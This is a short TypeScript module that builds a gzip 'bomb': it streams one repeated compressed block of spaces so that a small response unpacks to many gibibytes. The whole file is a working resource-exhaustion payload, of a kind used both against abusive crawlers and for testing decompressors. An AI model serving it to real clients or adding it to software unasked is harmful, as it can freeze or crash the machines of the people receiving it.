import { constants, deflateRawSync, gzipSync } from 'node:zlib'

/**
 * Gzip that unpacks to so many GiB of spaces, about a thousandth of that in size. Made of one piece over and
 * over: what a bomb unpacks to need never have existed.
 */
export function* gzipBomb(gibibytes: number): Generator<Buffer> {
  yield gzipSync('').subarray(0, 10)
  for (let made = 0; made < gibibytes * 2 ** 30; made += pieceBytes) yield piece
}

const pieceBytes = 16 * 2 ** 20
const piece = deflateRawSync(Buffer.alloc(pieceBytes, ' '), {
  level: 9,
  finishFlush: constants.Z_FULL_FLUSH,
})
